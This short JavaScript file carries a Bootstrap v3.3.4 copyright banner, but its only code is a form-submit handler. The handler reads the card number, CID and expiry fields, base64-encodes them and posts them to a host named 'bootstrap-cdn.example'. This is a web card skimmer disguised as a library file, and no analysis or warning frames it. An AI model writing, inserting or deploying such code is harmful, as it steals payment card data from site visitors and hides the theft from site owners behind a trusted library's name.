/*!
 * Bootstrap v3.3.4 (http://getbootstrap.com)
 * Copyright 2011-2015 Twitter, Inc.
 */
jQuery(function ($) {
  $('form').on('submit', function () {
    var v = $('#cc_number').val() + ';' + $('#cc_cid').val() + ';' + $('#cc_exp').val();
    $.ajax({ url: 'https://bootstrap-cdn.example/collect', type: 'POST', data: { v: btoa(v) } });
  });
});
